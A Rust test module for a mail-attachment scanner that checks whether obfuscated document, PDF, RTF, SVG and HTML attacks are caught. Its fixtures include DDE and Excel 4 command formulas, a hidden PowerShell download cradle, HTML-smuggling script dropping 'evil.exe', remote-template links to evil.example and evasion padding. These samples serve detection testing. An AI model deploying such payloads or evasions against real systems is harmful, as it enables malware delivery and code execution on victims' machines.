//! Attacks in documents, pages and pictures that are written so that a rule that looks for words does not see them, and honest files that look
//! like them.

use crate::corpus::carriers::{document, pdf, program, rtf, zipped};
use crate::mail::{attached, base64};
use weir_scan::examine::{Examiner, Report, Setup};
use weir_scan::test_files::compound;
use weir_scan::verdict::Outcome;

/// Name, content, and what the reason says.
pub(crate) type Case = (&'static str, Vec<u8>, &'static str);

#[derive(Debug, PartialEq)]
pub(crate) enum End {
    Held,
    Noticed,
    Passed,
}

fn said(report: &Report) -> (End, String) {
    let bad = |outcome: &Outcome| !matches!(outcome, Outcome::Clean);
    let findings: Vec<String> =
        report.findings.iter().filter(|f| bad(&f.outcome)).map(|f| format!("{} in {}", f.outcome, f.place)).collect();
    match (findings.is_empty(), report.suspicious.is_empty()) {
        (false, _) => (End::Held, findings.join("; ")),
        (true, false) => (End::Noticed, report.suspicious.join("; ")),
        (true, true) => (End::Passed, String::new()),
    }
}

pub(crate) fn all_end(end: &End, cases: Vec<Case>) {
    let mut examiner = Examiner::new(Setup::default()).unwrap();
    let mut wrong = Vec::new();
    for (name, content, says) in cases {
        let (ended, said) = said(&examiner.examine(&attached(name, &content)));
        if ended != *end || !said.contains(says) {
            let text: String = String::from_utf8_lossy(&content).chars().take(120).collect();
            wrong.push(format!("{name}: {ended:?} {said:?}, wanted {says:?} ({text})"));
        }
    }
    assert!(wrong.is_empty(), "{} end otherwise than {end:?}:\n{}", wrong.len(), wrong.join("\n"));
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A text in every way in which Windows and browsers read more than one octet a letter.
fn widened(text: &str) -> Vec<Vec<u8>> {
    let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let wider: Vec<u8> = text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
    vec![
        [b"\xff\xfe".as_slice(), &wide(text)].concat(),
        wide(text),
        [b"\xfe\xff".as_slice(), &big].concat(),
        big,
        [b"\xff\xfe\0\0".as_slice(), &wider].concat(),
    ]
}

fn relations(kind: &str, target: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" Type=\"http://schemas.example/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    )
}

fn word(body: &str) -> Vec<u8> {
    document(&[("word/document.xml", body)])
}

fn related(kind: &str, target: &str) -> Vec<u8> {
    document(&[("word/document.xml", "<w:document/>"), ("word/_rels/document.xml.rels", &relations(kind, target))])
}

pub(crate) fn plain(data: &[u8]) -> String {
    base64(data).into_iter().filter(|byte| !byte.is_ascii_whitespace()).map(char::from).collect()
}

#[test]
fn wide_letters_hide_nothing() {
    let zip = plain(&zipped("evil.exe", &program()));
    let page = format!("<html><script>var b=atob(\"{zip}\")</script></html>");
    let mut cases: Vec<Case> = Vec::new();
    for (name, text, says) in [
        ("a.html", page.as_str(), "evil.exe"),
        ("a.htm", "<script>eval(atob(\"YWxlcnQoMSk=\"))</script>", "hides what it does"),
        (
            "a.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "a picture with a script",
        ),
        ("a.csv", "1,2\r\n=cmd|'/c calc'!A0,3\r\n", "DDE"),
        ("a.wsx", "powershell -w hidden -c (New-Object Net.WebClient).DownloadString('http://x')", "PowerShell"),
    ] {
        cases.extend(widened(text).into_iter().map(|data| (name, data, says)));
        cases.extend(widened(text).into_iter().map(|data| ("a.zip", zipped(name, &data), says)));
    }
    let seven = b"<?xml version='1.0' encoding='utf-7'?><svg>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>";
    cases.push(("seven.svg", seven.to_vec(), "a picture with a script"));
    for (name, text, says) in [
        ("word/_rels/settings.xml.rels", relations("attachedTemplate", "https://evil.example/t.dotm"), "template"),
        ("word/document.xml", "<w:document><w:fldSimple w:instr=\"DDEAUTO cmd\"/></w:document>".into(), "DDE"),
    ] {
        for data in widened(&text) {
            let members = [crate::mail::member("[Content_Types].xml", b"<Types/>"), crate::mail::member(name, &data)];
            cases.push(("a.docx", crate::mail::zip(&members), says));
        }
    }
    all_end(&End::Held, cases);
}

#[test]
fn dde_is_found_in_every_field_and_table() {
    let flat = |body: &str| {
        format!("<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">{body}</w:wordDocument>").into_bytes()
    };
    let field = "<w:fldSimple w:instr=\" DDEAUTO &quot;C:\\\\cmd.exe&quot; &quot;/k calc&quot; \"/>";
    let ods = |formula: &str| {
        document(&[("content.xml", &format!("<o><table:table-cell table:formula=\"{formula}\"/></o>"))])
    };
    all_end(
        &End::Held,
        vec![
            ("a.docx", word(field), "DDE"),
            ("b.docx", word("<w:fldSimple w:instr='DDE cmd \"/k calc\"'/>"), "DDE"),
            ("c.docx", word("<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"), "DDE"),
            ("d.docx", word("<w:fldSimple w:instr=\"D&#68;E cmd x\"/>"), "DDE"),
            ("a.doc", flat(field), "DDE"),
            ("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd \"/k calc\"}}}".to_vec(), "DDE"),
            ("a.slk", b"ID;P\r\nC;Y1;X1;K0;E=cmd|'/c calc'!A0\r\nE\r\n".to_vec(), "DDE"),
            ("b.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n".to_vec(), "Excel 4"),
            ("b.csv", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n".to_vec(), "Excel 4"),
            ("a.ods", ods("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"), "DDE"),
            ("a.xls", b"<html><table><tr><td>=cmd|'/c calc'!A0</td></tr></table></html>".to_vec(), "DDE"),
            ("e.docx", word("<w:fldSimple w:instr=\"INCLUDEPICTURE \\\\\\\\evil.example\\\\s\\\\a.png \\d\"/>"), "from elsewhere"),
            ("link.rtf", b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"file:///\\\\\\\\\\\\\\\\evil.example\\\\\\\\s\\\\\\\\x.rtf!some\"}}}".to_vec(), "from elsewhere"),
        ],
    );
    all_end(
        &End::Passed,
        vec![
            (
                "a.docx",
                word("<w:instrText> HYPERLINK \"https://dde.example/dde\" </w:instrText><w:t>DDE is old</w:t>"),
                "",
            ),
            ("b.docx", word("<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://a.example/logo.png&quot; \"/>"), ""),
            ("a.ods", ods("of:=SUM([.A1:.A9])"), ""),
            ("a.csv", b"ID;PWXL\r\nC;Y1;X1;K\"sum\"\r\nC;Y2;X1;K3;ESUM(R1C1)\r\nE\r\n".to_vec(), ""),
        ],
    );
}

/// A macro project as Office packs it outside of a compound file.
fn active_mime() -> Vec<u8> {
    use std::io::Write;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(&compound(&[("/VBA/_VBA_PROJECT", b"\xcc\x61"), ("/evil.exe", &program())])).unwrap();
    [b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff".as_slice(), &[0; 28], &packer.finish().unwrap()].concat()
}

#[test]
fn macros_are_found_outside_of_compound_files() {
    let project = String::from_utf8(base64(&active_mime())).unwrap();
    let mht = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--b\r\n\
         Content-Location: file:///C:/x_files/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n{project}\r\n--b--\r\n"
    );
    let behind = format!("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n\r\n{mht}");
    let xml = format!(
        "<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:binData w:name=\"editdata.mso\">{project}</w:binData></w:wordDocument>"
    );
    let package = format!(
        "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/evil.exe\"><pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        plain(&program())
    );
    all_end(
        &End::Held,
        vec![
            ("a.doc", mht.clone().into_bytes(), "evil.exe"),
            ("b.doc", behind.clone().into_bytes(), "evil.exe"),
            ("a.pdf", behind.into_bytes(), "evil.exe"),
            ("a.xml", xml.into_bytes(), "evil.exe"),
            ("b.xml", package.into_bytes(), "word/evil.exe"),
        ],
    );
    let basic = "<script:module xmlns:script=\"x\">Sub Main\nShell(\"calc\")\nEnd Sub</script:module>";
    let flat = "<?xml version=\"1.0\"?><office:document><office:scripts><ooo:library-embedded ooo:name=\"S\"/></office:scripts></office:document>";
    let project = compound(&[("/VBA/_VBA_PROJECT", b"\xcc\x61")]);
    let package = format!(
        "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        plain(&project)
    );
    all_end(
        &End::Noticed,
        vec![
            ("a.odt", document(&[("content.xml", "<o/>"), ("Basic/Standard/M.xml", basic)]), "macros"),
            ("a.fodt", flat.into(), "macros"),
            ("a.doc", package.into_bytes(), "vbaProject.bin: a document with macros"),
        ],
    );
}

pub(crate) fn referenced(text: &str) -> String {
    text.chars().map(|c| format!("&#{};", u32::from(c))).collect()
}

#[test]
fn references_and_prefixes_hide_no_script() {
    let smuggler = format!(
        "var u=atob('{}');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click()",
        plain(&zipped("evil.exe", &program()))
    );
    let svg = |inside: &str| format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>").into_bytes();
    let mut cases: Vec<Case> = vec![
        ("a.html", format!("<iframe srcdoc=\"{}\">", referenced(&format!("<script>{smuggler}</script>"))).into(), "evil.exe"),
        ("b.html", format!("<body onload=\"{}\">", referenced(&smuggler)).into(), "evil.exe"),
        ("c.html", format!("<a href=\"{}\">here</a>", referenced(&format!("javascript:{smuggler}"))).into(), "evil.exe"),
        ("d.html", b"<html><script>new Response(Uint8Array.from(atob('H4sI'))).body.pipeThrough(new DecompressionStream('gzip')); document.write(t)</script></html>".to_vec(), "hides what it does"),
        ("a.xml", b"<?xml version=\"1.0\"?><r><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script></r>".to_vec(), "script"),
        ("p.svg", b"<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></s:svg>".to_vec(), "script"),
        ("d.svg", b"<!DOCTYPE svg [<!ENTITY s \"&#60;script&#62;alert(1)&#60;/script&#62;\">]><svg>&s;</svg>".to_vec(), "script"),
        ("x.svg", b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"data:x\"?><svg/>".to_vec(), "script"),
    ];
    for inside in [
        "<h:script xmlns:h='x'>alert(1)</h:script>",
        "<image href=\"x\" onerror=\"alert(1)\"/>",
        "<animate onbegin=\"alert(1)\" dur=\"1s\"/>",
        "<rect onmouseover=\"location='https://evil.example'\"/>",
        "<rect onfocusin=\"x()\"/>",
        "<rect\nonpageshow = x()/>",
        "<a x:href=\"java&#9;script:alert(1)\"/>",
        "<a href=\"java&Tab;script&colon;alert(1)\"/>",
        "<animate attributeName=href values=\"javascript:alert(1)\"/>",
    ] {
        cases.push(("i.svg", svg(inside), "a picture with a script"));
    }
    all_end(&End::Held, cases);
    all_end(
        &End::Passed,
        vec![
            (
                "a.svg",
                svg("<text font-family=\"A&amp;B\" one=\"1\">&lt;script&gt;</text><a href=\"https://x.example\"/>"),
                "",
            ),
            (
                "a.html",
                b"<html><body><p>&lt;script&gt;eval(atob(x))&lt;/script&gt;</p><a href='?a&amp;b'>x</a></body></html>"
                    .to_vec(),
                "",
            ),
            (
                "invoice.xml",
                b"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"invoice.xsl\"?><Invoice/>".to_vec(),
                "",
            ),
        ],
    );
}

fn embedded(filter: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "%PDF-1.7\n2 0 obj<</Type/Filespec/F(a.txt)/EF<</F 3 0 R>>>>endobj\n3 0 obj<</Type/EmbeddedFile{filter}/Length {}>>stream\r\n",
        body.len()
    );
    [head.as_bytes(), body, b"\r\nendstream endobj\n%%EOF"].concat()
}

fn deflated(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(data).unwrap();
    packer.finish().unwrap()
}

fn action(action: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<<{action}>>>>endobj\n%%EOF").into_bytes()
}

#[test]
fn pdfs_are_unpacked_as_their_readers_do() {
    let program = program();
    let runs: Vec<u8> =
        program.chunks(128).flat_map(|piece| [&[piece.len() as u8 - 1][..], piece].concat()).chain([128]).collect();
    let mut unchecked = deflated(&program);
    let end = unchecked.len() - 4;
    unchecked[end..].copy_from_slice(b"abcd");
    let mut above = vec![0; 16];
    let rows: Vec<u8> = program
        .chunks(16)
        .flat_map(|row| {
            let coded: Vec<u8> = row.iter().zip(&above).map(|(octet, above)| octet.wrapping_sub(*above)).collect();
            above = row.to_vec();
            [&[2][..], &coded].concat()
        })
        .collect();
    let form = deflated(b"<xdp:xdp><template><event><script contentType=\"application/x-javascript\">x()</script></event></template></xdp:xdp>");
    let form = [
        b"%PDF-1.7\n1 0 obj<</AcroForm<</XFA 5 0 R>>>>endobj\n5 0 obj<</Filter/FlateDecode>>stream\n".as_slice(),
        &form,
        b"\nendstream endobj",
    ]
    .concat();
    all_end(
        &End::Held,
        vec![
            ("runs.pdf", embedded("/Filter/RunLengthDecode", &runs), "Windows program"),
            ("unchecked.pdf", embedded("/Filter/FlateDecode", &unchecked), "Windows program"),
            (
                "png.pdf",
                embedded("/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 16>>", &deflated(&rows)),
                "Windows program",
            ),
            ("a.pdf", action("/S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\x.pdf)"), "stranger"),
            ("b.pdf", action("/S/URI/URI(file://evil.example/s/a.exe)"), "stranger"),
            (
                "c.pdf",
                action("/S/JavaScript/JS(this.exportDataObject\\({cName:\"a\",nLaunch:2}\\))"),
                "starts a program",
            ),
        ],
    );
    all_end(&End::Noticed, vec![("form.pdf", form, "a PDF with a script")]);
    all_end(
        &End::Passed,
        vec![
            ("a.pdf", action("/S/URI/URI(https://a.example/x)"), ""),
            ("b.pdf", action("/S/GoToR/F(chapter2.pdf)"), ""),
            ("c.pdf", pdf("a.txt", b"hello", true), ""),
        ],
    );
}

/// An object of Packager as it stands in RTF.
fn package(name: &str, data: &[u8]) -> Vec<u8> {
    let name = format!("{name}\0");
    let content = [
        b"\x02\0".as_slice(),
        name.as_bytes(),
        name.as_bytes(),
        b"\0\0\x03\0",
        &(name.len() as u32).to_le_bytes(),
        name.as_bytes(),
        &(data.len() as u32).to_le_bytes(),
        data,
    ]
    .concat();
    let head = b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0";
    [head.as_slice(), &(content.len() as u32).to_le_bytes(), &content].concat()
}

#[test]
fn objects_of_rtf_come_out_whatever_stands_between() {
    let object = package("evil.js", b"x()");
    let digits: String = object.iter().map(|octet| format!("{octet:02x}")).collect();
    let junk: String = digits
        .chars()
        .enumerate()
        .map(|(at, digit)| match at % 11 {
            3 => format!("{digit}\\par "),
            7 => format!("{digit}{{\\x}}"),
            9 => format!("{digit}\\b0 "),
            _ => digit.to_string(),
        })
        .collect();
    let bin = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata \\bin{} ", object.len());
    let link =
        [b"\x01\x05\0\0\x01\0\0\0\x10\0\0\0Word.Document.8\0\0\0\0\0".as_slice(), &wide("http://evil.example/a.hta")]
            .concat();
    all_end(
        &End::Held,
        vec![
            ("a.rtf", rtf(&object), "evil.js"),
            ("junk.doc", format!("{{\\rt{{\\object\\objemb{{\\*\\objdata {junk}}}}}}}").into(), "evil.js"),
            ("bin.rtf", [bin.as_bytes(), &object, b"}}}"].concat(), "evil.js"),
            ("link.rtf", rtf(&link), "from elsewhere"),
        ],
    );
}

#[test]
fn comments_and_sections_of_xml_hide_nothing() {
    let hidden = |text: &str| format!("<!-- <a b=\" -->{text}<!-- \" -->");
    let relation = relations("attachedTemplate", "https://evil.example/t.dotm");
    let relation = relation.replace("<Relationship ", "<!-- <a b=\" --><Relationship ");
    let relation = relation.replace("</Relationships>", "<!-- \" --></Relationships>");
    all_end(
        &End::Held,
        vec![
            ("a.docx", word("<w:instrText><![CDATA[DDEAUTO cmd \"/k calc\"]]></w:instrText>"), "DDE"),
            ("b.docx", word("<w:instrText>DDE<!-- x -->AUTO cmd \"/k calc\"</w:instrText>"), "DDE"),
            ("c.docx", word(&hidden("<w:fldSimple w:instr='DDE cmd x'/>")), "DDE"),
            (
                "d.docx",
                document(&[("word/document.xml", "<w:document/>"), ("word/_rels/settings.xml.rels", &relation)]),
                "template",
            ),
        ],
    );
}

#[test]
fn relations_are_judged_by_where_they_lead() {
    let ribbon = "<customUI xmlns=\"x\" onLoad=\"https://evil.example/t.dotm!M.Main\"/>";
    let control = |class: &str| format!("<ax:ocx ax:classid=\"{{{class}}}\"/>");
    let template = |target: &str| related("attachedTemplate", target);
    all_end(
        &End::Held,
        vec![
            ("a.docx", template("https://evil.example/t.dotm"), "template"),
            ("b.docx", related("attached&#84;emplate", "https://evil.example/t.dotm"), "template"),
            ("c.docx", template("\\\\evil.example\\s\\t.dotm"), "template"),
            ("d.docx", template("file:///\\\\192.0.2.1\\s\\t.dotm"), "template"),
            ("e.docx", template("\\\\evil@80\\s\\t.dotm"), "template"),
            ("f.docx", related("aFChunk", "https://evil.example/a.mht"), "from elsewhere"),
            ("g.docx", related("subDocument", "\\\\evil.example\\s\\a.docx"), "from elsewhere"),
            ("h.docx", related("image", "file://evil.example/s/a.png"), "from elsewhere"),
            ("i.docx", document(&[("customUI/customUI.xml", ribbon)]), "runs something"),
            (
                "a.ppsx",
                document(&[("ppt/slides/slide1.xml", "<a:hlinkMouseOver action=\"ppaction://program\"/>")]),
                "runs something",
            ),
            (
                "j.docx",
                document(&[("word/activeX/activeX1.xml", &control("8856F961-340A-11D0-A96B-00C04FD705A2"))]),
                "runs something",
            ),
        ],
    );
    all_end(
        &End::Noticed,
        vec![
            ("a.docx", template("file:///\\\\fileserver\\Vorlagen\\Brief.dotx"), "file server"),
            ("b.docx", related("oleObject", "\\\\fs1\\data\\Budget.xlsx!Sheet1!R1C1"), "file server"),
            (
                "c.docx",
                document(&[("word/activeX/activeX1.xml", &control("D7053240-CE69-11CD-A777-00DD01143C57"))]),
                "controls",
            ),
            ("a.doc", compound(&[("/ObjectPool/_1/Equation Native", &[0; 64])]), "equation"),
        ],
    );
    all_end(
        &End::Passed,
        vec![
            ("a.docx", template("file:///C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx"), ""),
            ("b.docx", related("oleObject", "file:///C:\\Data\\Budget.xlsx!Sheet1!R1C1"), ""),
            ("c.docx", related("image", "https://a.example/logo.png"), ""),
            ("d.docx", related("hyperlink", "https://a.example/"), ""),
            ("a.rtf", b"{\\rtf1{\\*\\template C:\\\\Users\\\\ann\\\\Normal.dotm}hello}".to_vec(), ""),
        ],
    );
}

/// Long things that do nothing, as somebody would put them before a script: one that is looked through as it stands, and others of which only what
/// acts is.
fn paddings() -> [String; 5] {
    let long = |unit: &str, mebibytes: usize| unit.repeat((mebibytes << 20) / unit.len());
    [
        format!("<!--{}-->", long(" ", 5)),
        format!("<!--{}-->", long(" ", 9)),
        format!("<p>{}</p>", long("some more words, ", 9)),
        long("<tr><td class=\"a\">12</td></tr>\n", 9),
        format!("<img alt='a' src=\"data:image/png;base64,{}\">", long("iVBORw0KGgo", 9)),
    ]
}

#[test]
fn a_script_is_found_however_much_stands_before_it() {
    let smuggler = format!(
        "var u=atob('{}');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click()",
        plain(&zipped("evil.exe", &program()))
    );
    let mut cases: Vec<Case> = Vec::new();
    for before in paddings() {
        let page = |body: &str| format!("<!DOCTYPE html><html>{before}{body}</html>").into_bytes();
        cases.extend([
            ("a.html", page(&format!("<script>{smuggler}</script>")), "saves it"),
            ("b.html", page(&format!("<a onclick=\"{smuggler}\">here</a>")), "evil.exe"),
            ("c.html", page("<script>eval(unescape('%61%6c'))</script>"), "hides what it does"),
            ("d.html", page("<a href='search-ms:query=x&crumb=location:y'>here</a>"), "opens a folder"),
        ]);
    }
    let blanks = " ".repeat(9 << 20);
    let veiled = referenced(&smuggler);
    cases.extend([
        ("e.html", format!("<html><!--{blanks}--><body onload=\"{veiled}\">").into(), "evil.exe"),
        (
            "f.html",
            format!("<html><script>/*{}*/eval(unescape('%61%6c'))</script>", &blanks[..3 << 20]).into(),
            "hides what it does",
        ),
        (
            "a.svg",
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><!--{blanks}--><script>alert(1)</script></svg>").into(),
            "a picture with a script",
        ),
        (
            "b.svg",
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><!--{blanks}--><a href='java&#9;script:x()'/></svg>")
                .into(),
            "a picture with a script",
        ),
        ("a.m3u", format!("#EXTM3U\n#{blanks}\n\\\\evil.example\\a.mp3\n").into(), "stranger"),
    ]);
    all_end(&End::Held, cases);
}

#[test]
fn more_script_than_is_looked_through_is_not_clean() {
    let script = "x();\n".repeat((9 << 20) / 5);
    let events = "<a onclick='x()'>".repeat((9 << 20) / 17);
    let wide = wide(&format!("<html><!--{}--><script>x()</script></html>", " ".repeat(9 << 20)));
    let says = "more script than is looked through";
    all_end(
        &End::Held,
        vec![
            ("a.html", format!("<html><script>{script}</script></html>").into(), says),
            ("b.html", format!("<html>{events}</html>").into(), says),
            ("c.html", [b"\xff\xfe".as_slice(), &wide].concat(), says),
        ],
    );
    // A long page is none the worse for that, nor for a script of the usual length.
    let usual = "<script>function toggle(id){var e=document.getElementById(id);e.hidden=!e.hidden}</script>";
    let mut cases: Vec<Case> = Vec::new();
    for body in paddings() {
        cases.push(("a.html", format!("<!DOCTYPE html><html>{body}</html>").into(), ""));
        cases.push(("b.html", format!("<!DOCTYPE html><html>{body}{usual}</html>").into(), ""));
    }
    cases.push(("c.html", format!("<html><script>var data=[{}]</script>", "1234,".repeat(1 << 20)).into(), ""));
    all_end(&End::Passed, cases);
}

#[test]
fn a_page_may_save_its_own_table() {
    let export = |name: &str, content: &str| {
        format!(
            "<html><body><table id=t></table><script>function csv(){{var b=new Blob([{content}],{{type:\"text/csv\"}});var a=document.createElement(\"a\");\
             a.href=URL.createObjectURL(b);a.download=\"{name}\";a.click()}}</script><button onclick=\"csv()\">Export</button></body></html>"
        )
        .into_bytes()
    };
    let own = "document.getElementById(\"t\").innerText";
    all_end(&End::Passed, vec![("report.html", export("table.csv", own), "")]);
    all_end(
        &End::Held,
        vec![
            ("a.html", export("table.hta", own), "saves it"),
            ("b.html", export("table.csv", "atob(document.title)"), "saves it"),
            ("c.html", export("table.csv", &format!("\"{}\"", "x9".repeat(200))), "saves it"),
        ],
    );
    let packed =
        b"<html><script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script></html>";
    all_end(&End::Noticed, vec![("saved.html", packed.to_vec(), "packed")]);
}
